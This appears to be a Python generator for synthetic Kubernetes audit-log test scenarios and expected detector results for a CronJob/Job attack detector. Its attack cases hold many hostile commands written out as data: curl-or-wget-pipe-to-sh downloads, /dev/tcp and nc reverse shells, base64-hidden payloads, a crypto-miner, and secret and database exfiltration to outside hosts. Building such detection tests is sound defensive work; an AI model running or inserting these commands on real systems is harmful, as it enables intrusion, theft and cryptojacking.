#!/usr/bin/env python3
"""Writes the acceptance scenarios (tests/data/scenarios/{attack,benign,needs-config}/*.jsonl and
expected.json) and examples/audit-demo.jsonl.

Deterministic: re-running produces byte-identical files. Run from anywhere:
    python3 tests/data/scenarios/tools/generate_scenarios.py
"""

import base64
import copy
import datetime as dt
import json
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

from k8saudit import (  # noqa: E402
    M, AuditLog, Cluster, batch_ref, container, cronjob_object, ctrl_reason, emptydir_vol, hostpath_vol, human_oidc,
    job_object, kubeadm_admin, mount, new_rng, objref, owner, podspec, rbac_reason_crb, rbac_reason_rb, res,
    sc_restricted, secret_vol, cm_vol, pvc_vol, status_object, ts_sec,
)
from flows import Batch, Noise, rand_suffix  # noqa: E402

HERE = os.path.dirname(os.path.abspath(__file__))
SCEN = os.path.dirname(HERE)
ROOT = os.path.abspath(os.path.join(SCEN, "..", "..", ".."))

EXPECTED = {}


def start_time(rng, y=2025, month=None, day=None, hour=None):
    month = month or rng.randint(1, 12)
    day = day or rng.randint(1, 28)
    hour = rng.randint(0, 23) if hour is None else hour
    return dt.datetime(y, month, day, hour, rng.randint(0, 59), rng.randint(0, 59), rng.randint(0, 999_999))


def setup(seed, namespaces, stages=None, flavour=None, hour=None):
    rng = new_rng(seed)
    c = Cluster(rng, flavour)
    log = AuditLog(c, start_time(rng, hour=hour), stages=rng.random() < 0.5 if stages is None else stages)
    noise = Noise(log, namespaces)
    b = Batch(log, noise)
    noise.burst(rng.randint(8, 16))
    return rng, c, log, noise, b


def attack(name, log, cite, desc, may=None):
    path = f"attack/{name}.jsonl"
    log.write(os.path.join(SCEN, path))
    EXPECTED[path] = {"kind": "attack", "description": desc, "min_severity": "medium", "must_cite": cite,
                      "may_cite": may or []}


def benign(name, log, desc):
    path = f"benign/{name}.jsonl"
    log.write(os.path.join(SCEN, path))
    EXPECTED[path] = {"kind": "benign", "description": desc, "expect": "no alert at medium or above"}


def admin_reason():
    return rbac_reason_crb("kubeadm:cluster-admins", "cluster-admin", "Group", "kubeadm:cluster-admins")


def cluster_admin_group_reason(group):
    return rbac_reason_crb(group.replace("oidc:", "") + "-admin", "cluster-admin", "Group", group)


def edit_reason(ns, subj_kind, subj, binding="edit"):
    return rbac_reason_rb(binding, ns, "ClusterRole", "edit", subj_kind, subj)


def b64(s):
    return base64.b64encode(s.encode()).decode()


# ==========================================================================
# attacks


def a_stolen_admin_cronjob_curl_sh():
    rng, c, log, noise, b = setup(101, ["default", "payments", "ingress-nginx", "kube-system"], flavour="kubeadm")
    user = kubeadm_admin()
    ua = c.kubectl_ua("linux/amd64", "1.29.2")
    ip = ["193.142.146.35"]
    for uri, ref in [("/api/v1/namespaces?limit=500", objref("namespaces")),
                     ("/api/v1/namespaces/payments/pods?limit=500", objref("pods", "payments"))]:
        log.request(verb="list", uri=uri, user=user, ua=ua, ips=ip, object_ref=ref, annotations={"authorization.k8s.io/reason": admin_reason()})
        noise.burst(rng.randint(2, 5))
    spec = podspec([container("logrotate", "alpine:3.19", ["/bin/sh", "-c"],
                              ["apk add --no-cache curl >/dev/null 2>&1; curl -fsSL http://193.142.146.35:8080/lr.sh | sh"])],
                   restart="OnFailure")
    aid = b.create_cronjob(ns="payments", name="logrotate-payments", schedule="* * * * *", pod_spec=spec, user=user, ua=ua, ips=ip,
                           reason=admin_reason(), success_hist=1, failed_hist=1)
    noise.burst(rng.randint(5, 9))
    log.gap(35)
    b.tick("payments", "logrotate-payments", log.t.replace(second=0, microsecond=0) + dt.timedelta(minutes=1))
    noise.burst(rng.randint(6, 10))
    attack("stolen-admin-kubeconfig-cronjob-curl-sh", log, [aid],
           "kubeadm admin.conf used from an external IP creates an every-minute CronJob that pipes curl into sh")


def a_masquerade_kube_proxy_sync():
    rng, c, log, noise, b = setup(102, ["kube-system", "default", "monitoring", "shop"], flavour="onprem", stages=True)
    user = c.sa("ci", "release-bot")
    ua = c.kubectl_ua("linux/amd64", "1.28.4")
    ip = ["10.30.4.18"]
    spec = podspec(
        [container("kube-proxy-sync", "registry.k8s.io/kube-proxy:v1.29.4",
                   ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--"],
                   ["sh", "-c", "test -f /usr/local/lib/.ksync || (curl -sk https://45.155.205.99/ks -o /usr/local/lib/.ksync && chmod +x /usr/local/lib/.ksync); /usr/local/lib/.ksync -d"],
                   mounts=[mount("host-root", "/host")], sc={"privileged": True})],
        volumes=[hostpath_vol("host-root", "/")], host_pid=True, host_net=True, restart="Never",
        tolerations=[{"operator": "Exists"}], priority_class="system-node-critical",
        node_selector={"kubernetes.io/os": "linux"})
    aid = b.create_cronjob(ns="kube-system", name="kube-proxy-sync", schedule="*/15 * * * *", pod_spec=spec, user=user, ua=ua, ips=ip,
                           reason=rbac_reason_crb("release-bot-admin", "cluster-admin", "ServiceAccount", "release-bot/ci"),
                           labels={"k8s-app": "kube-proxy", "tier": "node"}, job_labels={"k8s-app": "kube-proxy"},
                           tmpl_labels={"k8s-app": "kube-proxy"}, concurrency="Forbid",
                           extra_ann={"pod-security.kubernetes.io/audit-violations": 'would violate PodSecurity "baseline:latest": host namespaces (hostNetwork=true, hostPID=true), hostPath volumes (volume "host-root"), privileged (container "kube-proxy-sync" must not set securityContext.privileged=true)'})
    noise.burst(rng.randint(8, 14))
    attack("masquerade-kube-proxy-sync-hostpid-nsenter", log, [aid],
           "CI token used from a workstation creates kube-system CronJob 'kube-proxy-sync': privileged, hostPID, hostPath /, nsenter -t 1, downloads a binary")


def a_miner_job():
    rng, c, log, noise, b = setup(103, ["ml-research", "default", "jupyter"], flavour="gke")
    user = human_oidc("t.nakamura@example.org", ["ml-researchers"])
    ua = c.kubectl_ua("darwin/arm64", "1.30.2")
    ip = ["102.129.152.71"]
    spec = podspec([container("trainer", "docker.io/pytorchbench/cuda-runtime:12.1",
                              ["/opt/conda/bin/kworkerd"],
                              ["-o", "stratum+tcp://pool.hashvault.pro:443", "-u", "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
                               "-p", "gpu-node", "--donate-level=1", "-a", "rx/0", "--cpu-max-threads-hint=75", "-B"],
                              resources=res(cpu_req="6", mem_req="4Gi"))],
                   restart="Never", tolerations=[{"operator": "Exists", "effect": "NoSchedule"}])
    aid, _ = b.create_job(ns="ml-research", name="resnet-sweep-0613", pod_spec=spec, user=user, ua=ua, ips=ip,
                          reason=edit_reason("ml-research", "Group", "oidc:ml-researchers", "ml-researchers-edit"),
                          parallelism=6, completions=6, backoff=100, tmpl_labels={"app": "resnet-sweep"})
    log.tick(3, 40)
    b.run_job("ml-research", "resnet-sweep-0613", parallel=2)
    noise.burst(rng.randint(6, 12))
    attack("miner-job-stratum-renamed-binary", log, [aid],
           "Researcher credentials from an unusual IP create a 6-way parallel Job running a renamed xmrig (stratum+tcp, --donate-level, rx/0)")


def a_reverse_shell_job():
    rng, c, log, noise, b = setup(104, ["staging", "default", "redis"], flavour="eks")
    user = {"username": "arn:aws:sts::318204669572:assumed-role/eks-staging-dev/cristina.v", "uid": "aws-iam-authenticator:318204669572:AROAUTPZJ7ZHN7G3KXQ2L",
            "groups": ["dev-staging", "system:authenticated"],
            "extra": M({"accessKeyId": ["ASIAUTPZJ7ZHKMQ5CWXR"], "arn": ["arn:aws:sts::318204669572:assumed-role/eks-staging-dev/cristina.v"],
                        "canonicalArn": ["arn:aws:iam::318204669572:role/eks-staging-dev"], "principalId": ["AROAUTPZJ7ZHN7G3KXQ2L"],
                        "sessionName": ["cristina.v"]})}
    ua = c.kubectl_ua("linux/amd64", "1.29.3")
    ip = ["91.92.242.17"]
    spec = podspec([container("migrate", "ubuntu:22.04", ["/bin/bash", "-c"],
                              ["apt-get -qq update >/dev/null; exec bash -i >& /dev/tcp/91.92.242.17/4443 0>&1"])],
                   restart="Never")
    aid, _ = b.create_job(ns="staging", name="db-migrate-hotfix", pod_spec=spec, user=user, ua=ua, ips=ip,
                          reason=edit_reason("staging", "Group", "dev-staging", "dev-staging-edit"), backoff=0,
                          ttl=60)
    b.run_job("staging", "db-migrate-hotfix")
    noise.burst(rng.randint(6, 12))
    attack("reverse-shell-job-dev-tcp", log, [aid],
           "EKS developer role used from an unknown IP creates a Job whose container runs bash -i >& /dev/tcp/<ip>/4443")


def a_base64_cronjob():
    rng, c, log, noise, b = setup(105, ["analytics", "default", "cert-manager"], flavour="rke2", stages=True)
    user = {"username": "deploy-bot", "uid": "3", "groups": ["deployers", "system:authenticated"]}
    ua = c.kubectl_ua("linux/amd64", "1.29.1")
    ip = ["10.12.0.41"]
    payload = "wget -q -O /tmp/.x http://185.172.128.9/x && chmod +x /tmp/.x && /tmp/.x -c /tmp/.c >/dev/null 2>&1 &"
    spec = podspec([container("warehouse-sync", "busybox:1.36", ["sh", "-c"], [f"echo {b64(payload)} | base64 -d | sh; sleep 45"])],
                   restart="OnFailure")
    aid = b.create_cronjob(ns="analytics", name="warehouse-sync", schedule="*/5 * * * *", pod_spec=spec, user=user, ua=ua, ips=ip,
                           reason=rbac_reason_rb("deployers", "analytics", "ClusterRole", "edit", "Group", "deployers"),
                           uri_query="?fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
                           annotations={"kubectl.kubernetes.io/last-applied-configuration": json.dumps(
                               {"apiVersion": "batch/v1", "kind": "CronJob", "metadata": {"annotations": {}, "name": "warehouse-sync", "namespace": "analytics"},
                                "spec": {"jobTemplate": {"spec": {"template": {"spec": {"containers": [{"args": [f"echo {b64(payload)} | base64 -d | sh; sleep 45"], "command": ["sh", "-c"], "image": "busybox:1.36", "name": "warehouse-sync"}], "restartPolicy": "OnFailure"}}}}, "schedule": "*/5 * * * *"}},
                               separators=(",", ":"), sort_keys=True) + "\n"})
    noise.burst(rng.randint(8, 12))
    attack("base64-payload-cronjob", log, [aid],
           "Static-token user applies a CronJob that echoes a base64 blob into base64 -d | sh (decodes to wget-and-run)")


def a_in_pod_sa_token_job():
    rng, c, log, noise, b = setup(106, ["web", "default", "ingress"], flavour="kubeadm")
    pod = f"storefront-{rand_suffix(rng, 10)}-{rand_suffix(rng)}"
    user = c.sa("web", "storefront", pod)
    ua = "python-requests/2.31.0"
    ip = [c.pod_ip()]
    reason = rbac_reason_rb("storefront-batch", "web", "Role", "batch-runner", "ServiceAccount", "storefront/web")
    log.request(verb="create", uri="/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", user=user, ua=ua, ips=ip,
                object_ref=objref("selfsubjectrulesreviews", group="authorization.k8s.io"), code=201,
                annotations={"authorization.k8s.io/reason": rbac_reason_crb("system:basic-user", "system:basic-user", "Group", "system:authenticated")})
    noise.burst(rng.randint(3, 6))
    spec = podspec([container("cache-warm", "ubuntu:22.04", ["bash", "-c"],
                              ["apt-get update -qq && apt-get install -y -qq curl >/dev/null && curl -s -o /tmp/cw http://176.97.210.14/cw && chmod 755 /tmp/cw && /tmp/cw"])],
                   restart="Never", sa="storefront")
    aid, _ = b.create_job(ns="web", name="cache-warm-8841", pod_spec=spec, user=user, ua=ua, ips=ip, uri_query="", reason=reason)
    b.run_job("web", "cache-warm-8841")
    noise.burst(rng.randint(6, 10))
    attack("pod-sa-token-python-requests-job", log, [aid],
           "Token of the storefront pod's service account used by python-requests from the pod IP to create a Job that downloads and runs a binary")


def a_anonymous_job():
    rng, c, log, noise, b = setup(107, ["default", "kube-system", "ops"], flavour="onprem")
    user = {"username": "system:anonymous", "groups": ["system:unauthenticated"]}
    ua = "curl/8.5.0"
    ip = ["5.42.92.210"]
    for uri in ["/version", "/apis/batch/v1"]:
        log.request(verb="get", uri=uri, user=user, ua=ua, ips=ip,
                    annotations={"authorization.k8s.io/reason": rbac_reason_crb("system:public-info-viewer", "system:public-info-viewer", "Group", "system:unauthenticated")})
    log.request(verb="list", uri="/apis/batch/v1/namespaces/default/jobs", user=user, ua=ua, ips=ip, object_ref=batch_ref("jobs", "default"),
                annotations={"authorization.k8s.io/reason": rbac_reason_crb("ops-debug-anon", "edit", "Group", "system:unauthenticated")})
    noise.burst(rng.randint(3, 6))
    spec = podspec([container("c", "alpine", ["sh", "-c", "wget -qO- http://5.42.92.210/i.sh | sh"])], restart="Never")
    aid, _ = b.create_job(ns="default", name=None, generate_name="cleanup-", pod_spec=spec, user=user, ua=ua, ips=ip,
                          uri_query="", reason=rbac_reason_crb("ops-debug-anon", "edit", "Group", "system:unauthenticated"))
    noise.burst(rng.randint(6, 10))
    attack("anonymous-job-generate-name", log, [aid],
           "system:anonymous (via a leftover ClusterRoleBinding to system:unauthenticated) creates a generateName Job with curl: wget | sh")


def a_impersonation_cronjob():
    rng, c, log, noise, b = setup(108, ["monitoring", "default", "tenant-a"], flavour="kubeadm", stages=True)
    user = human_oidc("r.patel@example.org", ["tenant-a-devs"])
    imp = {"username": "kubernetes-admin", "groups": ["system:masters", "system:authenticated"]}
    ua = c.kubectl_ua("darwin/arm64", "1.29.3")
    ip = ["10.8.3.77"]
    spec = podspec([container("exporter", "docker.io/library/busybox:1.36", ["/bin/sh", "-c"],
                              ["for ns in $(wget -qO- --header \"Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\" --no-check-certificate https://kubernetes.default.svc/api/v1/secrets | head -c 200000 | base64 -w0); do :; done; wget -q --post-data=\"$ns\" http://140.82.35.117:8000/u"])],
                   restart="OnFailure", sa="prometheus-k8s")
    aid = b.create_cronjob(ns="monitoring", name="metrics-compactor", schedule="@hourly", pod_spec=spec, user=user, ua=ua, ips=ip,
                           impersonated=imp, reason=rbac_reason_crb("cluster-admin", "cluster-admin", "Group", "system:masters"))
    noise.burst(rng.randint(8, 12))
    attack("impersonated-system-masters-cronjob", log, [aid],
           "A tenant developer impersonates kubernetes-admin/system:masters (--as/--as-group) to create a CronJob in monitoring that exfiltrates secrets")


def nightly_report_cronjob(b, ns, created, image="registry.example.org/analytics/report-builder:4.12.0", name="nightly-report"):
    spec = podspec([container("report", image, ["python", "-m", "reports.nightly"], ["--since=24h", "--out=s3://example-reports/nightly/"],
                              env=[("REPORT_TZ", "Europe/Berlin")], resources=res("250m", "512Mi", None, "1Gi"),
                              sc=sc_restricted(10001))],
                   restart="OnFailure", sa="report-builder", psc={"runAsNonRoot": True, "seccompProfile": {"type": "RuntimeDefault"}})
    return b.stored_cronjob(ns, name, "30 1 * * *", spec, created, tz="Europe/Berlin", labels={"app.kubernetes.io/name": name, "app.kubernetes.io/part-of": "analytics"},
                            tmpl_labels={"app.kubernetes.io/name": name})


def a_hijack_patch():
    rng, c, log, noise, b = setup(109, ["reporting", "default", "billing"], flavour="eks", stages=True)
    cj = nightly_report_cronjob(b, "reporting", log.t - dt.timedelta(days=41))
    pod = f"gitlab-runner-{rand_suffix(rng, 10)}-{rand_suffix(rng)}"
    user = c.sa("gitlab", "gitlab-runner", None)
    ua = c.kubectl_ua("linux/amd64", "1.29.3")
    ip = ["45.9.20.113"]
    reason = rbac_reason_crb("gitlab-runner-deployer", "edit", "ServiceAccount", "gitlab-runner/gitlab")
    b.get_cronjob("reporting", "nightly-report", user, ua, ip, reason)
    noise.burst(rng.randint(2, 5))
    patch = {"spec": {"jobTemplate": {"spec": {"template": {"spec": {"containers": [
        {"name": "report", "image": "ghcr.io/report-tools-dev/report-builder:4.12.1",
         "command": ["/bin/sh", "-c"], "args": ["python -m reports.nightly --since=24h --out=s3://example-reports/nightly/; curl -s https://paste.c-net.org/raw/UV9x | sh"]}]}}}}}}

    def mutate(o):
        ct = o["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]
        ct["image"] = "ghcr.io/report-tools-dev/report-builder:4.12.1"
        ct["command"] = ["/bin/sh", "-c"]
        ct["args"] = patch["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]["args"]
        ct["imagePullPolicy"] = "IfNotPresent"
        return o
    aid = b.patch_cronjob(ns="reporting", name="nightly-report", patch=patch, new_obj_fn=mutate, user=user, ua=ua, ips=ip, reason=reason)
    noise.burst(rng.randint(8, 12))
    _ = pod, cj
    attack("hijack-existing-cronjob-strategic-merge-patch", log, [aid],
           "Leaked CI token (used from outside the cluster) strategic-merge-patches an existing CronJob: new image from another registry, command now also curl | sh")


def a_rearm_suspended():
    rng, c, log, noise, b = setup(110, ["finance", "default", "vault"], flavour="kubeadm", stages=True)
    spec = podspec([container("purge", "registry.example.org/finance/ledger-tools:2.3.1", ["/app/ledger-purge"],
                              ["--older-than=2555d", "--confirm"], sc=sc_restricted(1000))],
                   restart="OnFailure", sa="ledger-maint")
    b.stored_cronjob("finance", "ledger-archive-purge", "0 4 1 */3 *", spec, log.t - dt.timedelta(days=200), suspend=True,
                     labels={"app": "ledger"})
    pod = f"vault-agent-injector-{rand_suffix(rng, 10)}-{rand_suffix(rng)}"
    user = c.sa("vault", "vault-agent-injector", pod)
    ua = c.kubectl_ua("linux/amd64", "1.29.0")
    ip = [c.pod_ip()]
    reason = rbac_reason_crb("vault-agent-injector-binding", "vault-agent-injector-clusterrole", "ServiceAccount", "vault-agent-injector/vault")
    log.request(verb="list", uri="/apis/batch/v1/namespaces/finance/cronjobs?limit=500", user=user, ua=ua, ips=ip,
                object_ref=batch_ref("cronjobs", "finance"), annotations={"authorization.k8s.io/reason": reason})
    noise.burst(rng.randint(3, 6))
    patch = {"spec": {"schedule": "*/2 * * * *", "suspend": False}}

    def mutate(o):
        o["spec"]["schedule"] = "*/2 * * * *"
        o["spec"]["suspend"] = False
        return o
    aid = b.patch_cronjob(ns="finance", name="ledger-archive-purge", patch=patch, new_obj_fn=mutate, user=user, ua=ua, ips=ip,
                          reason=reason, query="?fieldManager=kubectl-patch")
    noise.burst(rng.randint(4, 8))
    log.gap(70)
    slot = log.t.replace(second=0, microsecond=0)
    slot = slot.replace(minute=slot.minute // 2 * 2) + dt.timedelta(minutes=2)
    log.t = max(log.t, slot + dt.timedelta(milliseconds=rng.randint(40, 700)))
    b.tick("finance", "ledger-archive-purge", slot)
    attack("rearm-suspended-cronjob-schedule-change", log, [aid],
           "A pod's service-account token (vault namespace) merge-patches a dormant destructive CronJob: suspend true->false and schedule quarterly -> every 2 minutes")


def apply_body_from(obj, tracking):
    """A server-side-apply body for a stored object: what a GitOps tool sends (no server-set fields)."""
    body = copy.deepcopy(obj)
    md = body["metadata"]
    for k in ("uid", "resourceVersion", "generation", "creationTimestamp"):
        md.pop(k, None)
    ann = dict(md.get("annotations") or {})
    ann["argocd.argoproj.io/tracking-id"] = tracking
    md["annotations"] = M(ann)
    body.pop("status", None)
    return body


def _manual_job_modified(seed, variant):
    rng, c, log, noise, b = setup(seed, ["databases", "default", "app"], flavour="gke" if variant == "gitops" else "kubeadm",
                                  hour=1 if variant == "tick" else None)
    spec = podspec([container("backup", "registry.example.org/dba/pg-backup:15.6-2",
                              ["/usr/local/bin/pg-backup"], ["--target=gs://example-db-backups/orders", "--compress=zstd"],
                              env=[("PGHOST", "orders-db-rw"), ("PGUSER", "backup")], sc=sc_restricted(26))],
                   restart="OnFailure", sa="pg-backup")
    cj = b.stored_cronjob("databases", "orders-db-backup", "15 2 * * *", spec, log.t - dt.timedelta(days=90),
                          job_labels={"app": "orders-db-backup"}, tmpl_labels={"app": "orders-db-backup"})
    if variant == "gitops":
        # Argo CD re-syncs the (unchanged) CronJob: its full template is in the log.
        argo = c.sa("argocd", "argocd-application-controller", "argocd-application-controller-0")
        areason = rbac_reason_crb("argocd-application-controller", "argocd-application-controller", "ServiceAccount",
                                  "argocd-application-controller/argocd")
        body = apply_body_from(cj, "databases:batch/CronJob:databases/orders-db-backup")

        def same(o):
            o["metadata"]["annotations"] = body["metadata"]["annotations"]
            return o
        b.patch_cronjob(ns="databases", name="orders-db-backup", patch=body, new_obj_fn=same, user=argo,
                        ua="argocd-application-controller/v0.0.0 (linux/amd64) kubernetes/$Format", ips=[c.pod_ip()], reason=areason,
                        query="?fieldManager=argocd-controller&force=true")
        noise.burst(rng.randint(6, 10))
        log.gap(rng.randint(1800, 5400))
    else:
        # The nightly run: the cronjob-controller's Job carries the CronJob's template.
        slot = log.t.replace(hour=2, minute=15, second=0, microsecond=0)
        if slot < log.t:
            slot += dt.timedelta(days=1)
        log.t = slot - dt.timedelta(seconds=rng.randint(20, 50))
        noise.burst(rng.randint(4, 8))
        log.t = max(log.t, slot + dt.timedelta(milliseconds=rng.randint(30, 400)))
        b.tick("databases", "orders-db-backup", slot)
        noise.burst(rng.randint(6, 10))
        log.gap(rng.randint(5 * 3600, 8 * 3600))
    user = human_oidc("k.oduya@example.org", ["dba"])
    ua = c.kubectl_ua("linux/amd64", "1.29.1")
    ip = ["10.64.9.23"]
    reason = edit_reason("databases", "Group", "oidc:dba", "dba-edit")
    b.get_cronjob("databases", "orders-db-backup", user, ua, ip, reason)
    noise.burst(rng.randint(2, 4))
    evil = copy.deepcopy(spec)
    ct = evil["containers"][0]
    ct["command"] = ["/bin/sh", "-c"]
    ct["args"] = ["pg_dumpall -h orders-db-rw -U backup | gzip | curl -s -T - https://transfer.sh/orders.sql.gz"]
    name = "orders-db-backup-manual-x7k" if variant == "gitops" else "orders-db-backup-rerun"
    aid, _ = b.create_job(ns="databases", name=name, pod_spec=evil, user=user, ua=ua, ips=ip, reason=reason,
                          owners=[owner("CronJob", "orders-db-backup", cj["metadata"]["uid"], block=None)],
                          annotations={"cronjob.kubernetes.io/instantiate": "manual"}, labels={"app": "orders-db-backup"},
                          tmpl_labels={"app": "orders-db-backup"})
    b.run_job("databases", name)
    noise.burst(rng.randint(5, 8))
    return log, aid


def a_create_job_from_cronjob_modified():
    log, aid = _manual_job_modified(111, "gitops")
    attack("create-job-from-cronjob-modified-template", log, [aid],
           "Manual Job (instantiate: manual, ownerRef to the CronJob) whose command differs from the CronJob template (seen in an earlier Argo CD sync): pg_dumpall piped to transfer.sh")


def a_create_job_from_cronjob_modified_known_from_tick():
    log, aid = _manual_job_modified(122, "tick")
    attack("create-job-from-cronjob-modified-template-known-from-tick", log, [aid],
           "Manual Job whose command differs from the CronJob's template; the template is only visible in the cronjob-controller's Job from the 02:15 run: pg_dumpall piped to transfer.sh")


def a_fake_owner_reference():
    rng, c, log, noise, b = setup(112, ["platform", "default", "cert-manager"], flavour="rke2")
    spec = podspec([container("renew", "quay.io/jetstack/cert-manager-ctl:v1.14.4", ["cmctl"], ["renew", "--all", "-A"])],
                   restart="OnFailure", sa="cert-renewer")
    real = b.stored_cronjob("platform", "cert-renew", "*/10 * * * *", spec, log.t - dt.timedelta(days=12))
    slot = log.t.replace(second=0, microsecond=0)
    slot = slot.replace(minute=slot.minute // 10 * 10) + dt.timedelta(minutes=10)
    log.t = max(log.t, slot + dt.timedelta(milliseconds=rng.randint(40, 700)))
    b.tick("platform", "cert-renew", slot)
    log.gap(rng.randint(100, 300))
    noise.burst(rng.randint(4, 8))
    user = {"username": "u-7rq2xk", "groups": ["system:authenticated"]}  # rancher-issued token user
    ua = c.kubectl_ua("windows/amd64", "1.30.2")
    ip = ["10.42.0.1", "84.17.47.101"]
    spec2 = podspec([container("renew", "quay.io/jetstack/cert-manager-ctl:v1.14.4", ["/bin/sh", "-c"],
                               ["cmctl renew --all -A; nohup sh -c 'while :; do nc 84.17.47.101 8443 -e /bin/sh; sleep 300; done' >/dev/null 2>&1 &"])],
                    restart="OnFailure", sa="cert-renewer")
    fake_uid = c.uid()
    aid, _ = b.create_job(ns="platform", name=f"cert-renew-{int(log.t.timestamp()) // 60}", pod_spec=spec2, user=user, ua=ua, ips=ip,
                          reason=edit_reason("platform", "User", "u-7rq2xk", "u-7rq2xk-edit"),
                          owners=[owner("CronJob", "cert-renew", fake_uid)],
                          annotations={"batch.kubernetes.io/cronjob-scheduled-timestamp": ts_sec(log.t.replace(second=0, microsecond=0))})
    noise.burst(rng.randint(5, 8))
    _ = real
    attack("job-fake-cronjob-owner-reference", log, [aid],
           "A user (not the cronjob-controller) creates a Job named like a CronJob run whose ownerReference claims CronJob cert-renew with a UID that does not match it; payload runs nc -e")


def a_rbac_denied():
    rng, c, log, noise, b = setup(113, ["frontend", "default", "kube-system"], flavour="eks", stages=True)
    pod = f"web-app-{rand_suffix(rng, 10)}-{rand_suffix(rng)}"
    user = c.sa("frontend", "web-app", pod)
    ua = "kubectl/v1.29.3 (linux/amd64) kubernetes/6813625"
    ip = [c.pod_ip()]
    ids = []
    log.request(verb="create", uri="/apis/authorization.k8s.io/v1/selfsubjectaccessreviews", user=user, ua=ua, ips=ip,
                object_ref=objref("selfsubjectaccessreviews", group="authorization.k8s.io"), code=201,
                annotations={"authorization.k8s.io/reason": rbac_reason_crb("system:basic-user", "system:basic-user", "Group", "system:authenticated")})
    for ns, res_ in [("frontend", "cronjobs"), ("kube-system", "jobs"), ("default", "cronjobs")]:
        noise.burst(rng.randint(1, 4))
        ids.append(b.forbidden(verb="create", resource=res_, ns=ns, user=user, ua=ua, ips=ip))
    noise.burst(rng.randint(6, 10))
    attack("rbac-denied-batch-creates-from-pod-token", log, ids,
           "A compromised pod's service account tries to create CronJobs/Jobs in three namespaces with kubectl; all answered 403 (decision forbid)")


def a_evidence_hiding():
    rng, c, log, noise, b = setup(114, ["tools", "default", "observability"], flavour="kubeadm")
    user = human_oidc("svc-automation@example.org", ["platform-ops"])
    ua = c.kubectl_ua("linux/amd64", "1.29.1")
    ip = ["10.20.5.9"]
    reason = edit_reason("tools", "Group", "oidc:platform-ops", "platform-ops-edit")
    spec = podspec([container("health", "python:3.12-slim", ["python3", "-c"],
                              ["import urllib.request as u,ssl;exec(u.urlopen('https://147.45.47.130/h.py',context=ssl._create_unverified_context()).read())"])],
                   restart="Never")
    aid = b.create_cronjob(ns="tools", name="node-health-probe", schedule="*/10 * * * *", pod_spec=spec, user=user, ua=ua, ips=ip,
                           reason=reason, ttl=5, success_hist=0, failed_hist=0, concurrency="Forbid", active_deadline=120, backoff=0)
    noise.burst(rng.randint(4, 8))
    log.gap(240)
    nxt = (log.t + dt.timedelta(minutes=10)).replace(minute=(log.t.minute // 10 + 1) * 10 % 60, second=0, microsecond=0)
    if nxt < log.t:
        nxt += dt.timedelta(hours=1)
    log.t = max(log.t, nxt)
    _, job = b.tick("tools", "node-health-probe", nxt)
    log.gap(2)
    del_id = b.delete_job("tools", job["metadata"]["name"], user, ua, ip, reason)
    noise.burst(rng.randint(6, 10))
    attack("evidence-hiding-zero-history-tiny-ttl-delete", log, [aid],
           "CronJob with successful/failed history limits 0, ttlSecondsAfterFinished 5 and a python download-exec; its creator deletes the spawned Job seconds after it ran",
           may=[del_id])


def a_recon():
    rng, c, log, noise, b = setup(115, ["dev", "default", "jupyter"], flavour="gke")
    pod = "jupyter-h-tanaka"
    user = c.sa("jupyter", "default", pod)
    ip = [c.pod_ip()]
    ids = []
    ua = "kubectl/v1.29.0 (linux/amd64) kubernetes/3f7a50f"
    noise.burst(3)
    log.request(verb="create", uri="/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", user=user, ua=ua, ips=ip,
                object_ref=objref("selfsubjectrulesreviews", group="authorization.k8s.io"), code=201,
                annotations={"authorization.k8s.io/reason": rbac_reason_crb("system:basic-user", "system:basic-user", "Group", "system:authenticated")})
    reason = rbac_reason_crb("jupyter-readonly", "view", "Group", "system:serviceaccounts:jupyter")
    for res_ in ["cronjobs", "jobs"]:
        noise.burst(rng.randint(1, 3))
        ids.append(log.request(verb="list", uri=f"/apis/batch/v1/{res_}?limit=500", user=user, ua=ua, ips=ip,
                               object_ref=batch_ref(res_), annotations={"authorization.k8s.io/reason": reason}))
    noise.burst(rng.randint(2, 5))
    ua2 = "curl/7.88.1"
    ids.append(log.request(verb="list", uri="/apis/batch/v1/cronjobs", user=user, ua=ua2, ips=ip, object_ref=batch_ref("cronjobs"),
                           annotations={"authorization.k8s.io/reason": reason}))
    log.request(verb="list", uri="/apis/batch/v1/namespaces/kube-system/cronjobs", user=user, ua=ua2, ips=ip,
                object_ref=batch_ref("cronjobs", "kube-system"), annotations={"authorization.k8s.io/reason": reason})
    noise.burst(rng.randint(6, 10))
    attack("recon-list-cronjobs-jobs-all-namespaces-from-pod", log, ids,
           "A notebook pod's service-account token lists cronjobs and jobs across all namespaces with a downloaded kubectl, then curl")


def a_node_cron_hostpath():
    rng, c, log, noise, b = setup(116, ["default", "batch", "ingress-nginx"], flavour="onprem", stages=True)
    pod = f"ingest-worker-{rand_suffix(rng, 10)}-{rand_suffix(rng)}"
    user = c.sa("batch", "ingest-worker", pod)
    ua = "Go-http-client/2.0"
    ip = [c.pod_ip()]
    line = "* * * * * root /bin/bash -c 'bash -i >& /dev/tcp/194.26.29.111/53 0>&1'"
    spec = podspec([container("fix-perms", "batch-tools:latest", ["/bin/sh", "-c"],
                              [f"echo \"{line}\" > /hostcron/0hourly-sync && chmod 644 /hostcron/0hourly-sync"],
                              mounts=[mount("cron", "/hostcron")])],
                   volumes=[hostpath_vol("cron", "/etc/cron.d", "Directory")], restart="Never",
                   node_name=rng.choice(c.nodes))
    aid, _ = b.create_job(ns="batch", name=None, generate_name="fix-perms-", pod_spec=spec, user=user, ua=ua, ips=ip, uri_query="",
                          reason=rbac_reason_rb("ingest-worker", "batch", "Role", "job-runner", "ServiceAccount", "ingest-worker/batch"),
                          ttl=10)
    noise.burst(rng.randint(8, 12))
    attack("node-cron-write-via-hostpath-job", log, [aid],
           "Pod token (Go-http-client) creates a Job pinned to a node that mounts /etc/cron.d and writes a root cron entry with a reverse shell")


def a_hijack_json_patch():
    rng, c, log, noise, b = setup(117, ["search", "default", "logging"], flavour="rke2")
    spec = podspec([container("reindex", "registry.example.org/search/indexer:7.4.2", ["/opt/indexer/bin/reindex"], ["--all"],
